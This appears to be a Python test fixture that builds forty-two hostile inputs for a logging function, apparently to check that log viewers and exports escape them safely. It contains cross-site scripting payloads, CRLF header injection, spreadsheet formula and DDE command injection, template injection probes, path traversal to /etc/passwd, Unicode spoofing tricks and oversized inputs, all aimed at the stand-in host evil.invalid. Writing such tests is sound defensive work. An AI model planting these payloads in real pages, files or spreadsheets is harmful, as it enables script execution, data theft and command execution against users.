"""Forty-two events whose fields try to act in a page, in a file or in a terminal; each is one that ``log()`` accepts.

What could act leaves a trace that a test finds: a script sets ``window.hostile``, every element and attribute has
``hostile`` in its name or value, and every address is below ``evil.invalid``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

SCRIPT = "<script>window.hostile=1;alert('hostile')</script>"
IMAGE = "<img src=//evil.invalid/hostile.png onerror=\"window.hostile=1;alert('hostile')\" class=hostile>"
BREAKOUT = "\"'></td></table></main><img src=x onerror=window.hostile=1 data-hostile=1>"
HANDLER = '" autofocus onfocus="window.hostile=1;alert(\'hostile\')" data-hostile="'
LINK = "javascript:window.hostile=1;alert('hostile')"
BIDI = "\u202egnp.\u2066eli\u2069\u202c"
NARROW = "ad\u200bm\u200cin\u200d\ufeff\u2060"
CONTROLS = "\x00\x01\x07\x08\x1b[2J\x1b]0;hostile\x07\x7f\x85\u2028\u2029"
SERVICE = "imports"


@dataclass(frozen=True)
class HostileEvent:
    """The arguments of one call of ``log()``.

    Attributes:
        name: A few words that name the attack.
        event_type: The event type.
        payload: The payload.
        user_id: The user.
        fields: Further arguments.
    """

    name: str
    event_type: str = "record_imported"
    payload: Any = None
    user_id: str = "mallory"
    fields: dict[str, Any] = field(default_factory=dict)


def hostile_events() -> tuple[HostileEvent, ...]:
    """Return the events, the same each time."""
    return (*_markup(), *_characters(), *_sizes(), *_other_languages(), *_pretences())


def _markup() -> tuple[HostileEvent, ...]:
    everywhere = ("session_id", "actor_id", "entity", "entity_id", "action", "source", "ip_address", "user_agent")
    more = ("correlation_id", "tenant_id", "reason")
    return (
        HostileEvent("script in every field", SCRIPT, SCRIPT, SCRIPT, dict.fromkeys((*everywhere, *more), SCRIPT)),
        HostileEvent("image in every field", IMAGE, IMAGE, IMAGE, dict.fromkeys((*everywhere, *more), IMAGE)),
        HostileEvent("end of table and page", BREAKOUT, BREAKOUT, BREAKOUT, dict.fromkeys(everywhere, BREAKOUT)),
        HostileEvent("handler out of an attribute", HANDLER, HANDLER, HANDLER, dict.fromkeys(everywhere, HANDLER)),
        HostileEvent("script in names", payload={SCRIPT: {IMAGE: [BREAKOUT, {HANDLER: 1}]}}),
        HostileEvent("script in changes", fields={"changes": {SCRIPT: {"old": IMAGE, "new": BREAKOUT}}}),
        HostileEvent("script in targets", fields={"targets": [(SCRIPT, IMAGE), (BREAKOUT, HANDLER)]}),
        HostileEvent("script in metadata", fields={"region": SCRIPT, "labels": {IMAGE: SCRIPT}}),
        HostileEvent("end of comment, style and title", payload="--></style></title></textarea></script>" + IMAGE),
        HostileEvent("unclosed comment", "<!--", "<!-- <![CDATA[ <?xml", "<!--"),
        HostileEvent(
            "drawing that loads", payload="<svg/onload=window.hostile=1 class=hostile><animate onbegin=alert(1)>"
        ),
        HostileEvent("formula that runs", payload="<math><mtext><mglyph><style><!--</style><img title='--&gt;" + IMAGE),
        HostileEvent(
            "frame", payload="<iframe srcdoc='" + SCRIPT + "' class=hostile></iframe><base href=//evil.invalid/>"
        ),
        HostileEvent("refresh", payload='<meta http-equiv="refresh" content="0;url=//evil.invalid/hostile">'),
        HostileEvent(
            "form", payload="<form action=//evil.invalid/hostile class=hostile><input name=csrf><button autofocus>"
        ),
    )


def _characters() -> tuple[HostileEvent, ...]:
    return (
        HostileEvent(
            "direction overridden", f"order_{BIDI}", {BIDI: BIDI}, f"ada{BIDI}", {"entity": BIDI, "reason": BIDI}
        ),
        HostileEvent("no width", NARROW, {NARROW: NARROW}, NARROW, {"actor_id": NARROW, "entity_id": NARROW}),
        HostileEvent(
            "control characters", payload={CONTROLS: CONTROLS}, fields={"reason": CONTROLS, "user_agent": CONTROLS}
        ),
        HostileEvent(
            "control characters in the user", user_id=CONTROLS, fields={"entity": CONTROLS, "entity_id": CONTROLS}
        ),
        HostileEvent("escapes of surrogates", payload="\\ud83d\\ude00 \\u003cscript\\u003e \ufffd \ufffe \U0010ffff"),
        HostileEvent(
            "private use and tags", payload="\ue000\U000f0000 \U000e0001\U000e0068\U000e0069", user_id="ada\U000e0041"
        ),
        HostileEvent("marks on marks", payload="e" + "\u0301\u0323" * 400, fields={"entity_id": "Z" + "\u0334" * 300}),
        HostileEvent(
            "end of lines",
            "a b",
            "one%0d%0aSet-Cookie: hostile=1",
            "eve%0d%0aLocation: //evil.invalid/",
            {"reason": "x%00y"},
        ),
        HostileEvent(
            "entities", "&lt;b&gt;", "&#x3c;script&#x3e;window.hostile=1&#x3c;/script&#x3e;", "&amp;lt;&quot;&#0;"
        ),
    )


def _sizes() -> tuple[HostileEvent, ...]:
    return (
        HostileEvent(
            "one very long word", payload="W" * 600_000, fields={"entity_id": "w" * 4_000, "user_agent": "v" * 4_000}
        ),
        HostileEvent("very long user", user_id="u" * 1_000, fields={"session_id": "s" * 4_000, "reason": "r" * 4_000}),
        HostileEvent("ten thousand members", payload={f"member {number}": number for number in range(10_000)}),
        HostileEvent("ten thousand items", payload=[IMAGE] * 5_000 + [None] * 5_000),
        HostileEvent("deep", payload=_nested(90)),
        HostileEvent(
            "many changes",
            fields={"changes": {f"field {number}": {"old": number, "new": None} for number in range(1_500)}},
        ),
        HostileEvent("large numbers", payload={"big": 10**18, "small": -1e-300, "huge": 1e308, "negative": -0.0}),
    )


def _other_languages() -> tuple[HostileEvent, ...]:
    return (
        HostileEvent(
            "names from right to left",
            "תשלום",
            {"שם": "מְנַהֵל", "مبلغ": 77},
            "أحمد",
            {"entity": "הזמנה", "entity_id": "77 (א)"},
        ),
        HostileEvent(
            "joined emoji", payload="👩‍👩‍👧‍👦 🏴‍☠️ 🇩🇪", user_id="👩🏽‍💻", fields={"entity": "📦", "outcome": "denied"}
        ),
        HostileEvent(
            "letters that look alike",
            "\u043erd\u0435r_\u0441h\u0430ng\u0435d",
            {"\u0430mount": 1},
            "\u0430da",
            {"entity": "\u043erder", "entity_id": "\uff17\uff17"},
        ),
        HostileEvent(
            "no end of words", payload="中" * 3_000, user_id="名" * 200, fields={"entity": "訂" * 500, "entity_id": "7"}
        ),
    )


def _pretences() -> tuple[HostileEvent, ...]:
    formulas = ('=HYPERLINK("//evil.invalid/")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\uff1d1+1")
    return (
        HostileEvent(
            "formulas of a table",
            formulas[0],
            list(formulas),
            formulas[1],
            {"entity": formulas[2], "entity_id": formulas[3], "reason": formulas[5]},
        ),
        HostileEvent(
            "templates",
            "{{7*7}}",
            "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7*7} #{7*7} <%= 7*7 %>",
            "{{config}}",
        ),
        HostileEvent(
            "addresses that act",
            LINK,
            {"url": LINK, "data": "data:text/html," + SCRIPT},
            LINK,
            {"entity": LINK, "user_agent": LINK, "source": LINK},
        ),
        HostileEvent(
            "address with a password",
            payload="https://admin:hunter2@evil.invalid/hostile?x=1#y",
            fields={"entity": "//evil.invalid/", "entity_id": "\\\\evil.invalid\\x"},
        ),
        HostileEvent(
            "paths",
            payload="../../etc/passwd",
            user_id="..",
            fields={"entity": "..", "entity_id": "../../sign-out?x=1&csrf=#"},
        ),
        HostileEvent(
            "like another id",
            "telemetry_read",
            {"id": "0198c0de-0000-7000-8000-000000000001", "verdict": "complete"},
            "telemetry",
            {"entity_id": "0198c0de-0000-7000-8000-000000000001 proven"},
        ),
        HostileEvent(
            "rules of a style",
            payload="*{display:none!important;background:url(//evil.invalid/hostile)}@import '//evil.invalid/x';",
            fields={"entity": "x;}body{display:none"},
        ),
    )


def _nested(depth: int) -> Any:
    value: Any = SCRIPT
    for level in range(depth):
        value = {IMAGE: value} if level % 2 else [value]
    return value
